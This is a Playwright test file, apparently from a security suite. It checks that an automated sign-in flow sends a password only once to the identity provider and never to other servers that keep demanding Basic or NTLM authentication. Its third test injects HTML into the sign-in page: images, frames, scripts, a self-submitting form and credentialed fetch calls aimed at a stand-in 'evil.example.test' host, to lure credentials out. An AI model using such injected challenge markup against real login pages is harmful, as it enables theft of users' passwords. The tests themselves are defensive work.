/** Servers that ask for Basic or NTLM again and again: the STS gets one answer, everybody else none. Counted at the servers. */
import { expect, test } from '@playwright/test';
import { buildChallenge } from '../../lab/ntlm/ntlm-messages';
import { signInAbroad } from '../../probes/testing/foreign/foreign-world';
import { signInPages } from '../../probes/testing/foreign/sign-in-pages';
import { type Answer, type Arrival, html, type VirtualHosts } from '../../probes/testing/foreign/virtual-hosts';
import { chromiumPath } from './testing/chromium-path';

const full = process.env.SECURITY_FULL === '1';
const fullChromium = full ? chromiumPath() : undefined;
test.beforeAll(() => {
  for (const name of Object.keys(process.env)) if (/^(https?|all)_proxy$/i.test(name)) delete process.env[name];
});

const asks = (...schemes: string[]): Answer => ({ status: 401, headers: { 'WWW-Authenticate': schemes, Connection: 'keep-alive' }, body: 'Who are you?' });
const basic = asks('Basic realm="again"');
/** An NTLM challenge (type 2) to whoever began, a new beginning to whoever answered. */
const challenge = buildChallenge(
  Buffer.from('aabbccddeeff0011', 'hex'),
  { domain: 'EXAMPLE', computer: 'IDP', dnsDomain: 'example.test', dnsComputer: 'idp.example.test' },
  new Date(),
);
const ntlm = ({ headers }: Arrival): Answer => {
  const message = Buffer.from(/^NTLM (\S+)/.exec(headers.authorization ?? '')?.[1] ?? '', 'base64');
  return asks(message[8] === 1 ? `NTLM ${challenge.toString('base64')}` : 'NTLM');
};

/** Requests that answer a challenge. NTLM's first message names nobody; its third does. */
const answered = (hosts: VirtualHosts, of: (host: string) => boolean): Arrival[] =>
  hosts.arrivals.filter(({ host, headers: { authorization = '' } }) => {
    const [scheme = '', text = ''] = authorization.split(' ');
    return of(host) && (scheme === 'Basic' || (/^(NTLM|Negotiate)$/.test(scheme) && Buffer.from(text, 'base64')[8] === 3));
  });

function note(threat: string, attempts: number, leaks: number): void {
  test
    .info()
    .annotations.push(
      { type: 'threat', description: threat },
      { type: 'attempts', description: String(attempts) },
      { type: 'leaks', description: String(leaks) },
    );
}

const others = ['a picture', 'a frame', 'a script', 'a style sheet', 'a fetch', 'a form of a frame'] as const;
const asked = (origin: string): string => `
  <img src="${origin}/1"><iframe src="${origin}/2"></iframe><script src="${origin}/3"></script><link rel="stylesheet" href="${origin}/4">
  <iframe name="f"></iframe><form method="post" target="f" action="${origin}/6"></form>
  <script>for (let n = 0; n < 3; n++) fetch('${origin}/5?' + n, { credentials: 'include', mode: 'no-cors' }).catch(() => 0); \
document.forms[document.forms.length - 1].submit()</script>`;

for (const [browser, executablePath] of [['the headless shell', undefined], ...(fullChromium ? [['full Chromium', fullChromium] as const] : [])] as const)
  for (const [scheme, answer] of [
    ['Basic', () => basic],
    ['NTLM', ntlm],
    ['Basic and NTLM', (arrival: Arrival) => (/^NTLM/.test(arrival.headers.authorization ?? '') ? ntlm(arrival) : asks('Basic realm="again"', 'NTLM'))],
  ] as const) {
    test(`${browser}: an STS that asks for ${scheme} again and again gets one answer`, async () => {
      const { hosts, journey } = await signInAbroad({ browser: executablePath, deadlineMs: 8_000, idp: { pages: { '/wsfed': answer } } });
      const [toSts, toOthers] = [answered(hosts, (host) => host === 'idp.example.test'), answered(hosts, (host) => host !== 'idp.example.test')];
      note('the STS gets the password more than once', 1, Math.max(0, toSts.length - 1) + toOthers.length);
      expect(toSts, journey.why).toHaveLength(1);
      expect(toOthers).toEqual([]);
      expect(journey).toMatchObject({ signedIn: 'no', credentialSubmissions: 1 });
    });

    test(`${browser}: a CRM that asks for ${scheme} again and again gets none`, async () => {
      const { hosts } = await signInAbroad({ browser: executablePath, deadlineMs: 8_000, rp: { pages: { '/home': answer } } });
      const given = answered(hosts, () => true);
      note('the password goes to anybody but the STS', 1, given.length);
      expect(given).toEqual([]);
      expect(hosts.arrivals.filter(({ url }) => url.pathname === '/home').length).toBeGreaterThan(0);
    });

    test(`${browser}: a stranger, and the STS itself, that ask a page’s ${others.join(', ')} for ${scheme} get none`, async () => {
      const { hosts, journey } = await signInAbroad({
        browser: executablePath,
        deadlineMs: 10_000,
        before: (all) => all.put('evil.example.test', answer),
        idp: {
          pages: Object.fromEntries([1, 2, 3, 4, 5, 6].map((n) => [`/${n}`, answer])),
          page: (view) => {
            const evil = new URL(view.action).origin.replace('idp.', 'evil.');
            return { body: (signInPages.plain(view).body ?? '').replace('</body>', () => `${asked(evil)}${asked(new URL(view.action).origin)}</body>`) };
          },
        },
        rp: { home: (user) => html('My desk', `<h1 id="welcome">Welcome, ${user}</h1>`) },
      });
      const given = answered(hosts, () => true);
      const challenges = hosts.arrivals.filter(({ host, url }) => host === 'evil.example.test' || /^\/[1-6]$/.test(url.pathname));
      note('the password goes to anybody but the STS', challenges.length, given.length);
      expect(challenges.length, journey.why).toBeGreaterThan(8);
      expect(given.map(({ host, url }) => host + url.pathname)).toEqual([]);
      expect(journey.credentialSubmissions, journey.why).toBe(1);
    });
  }
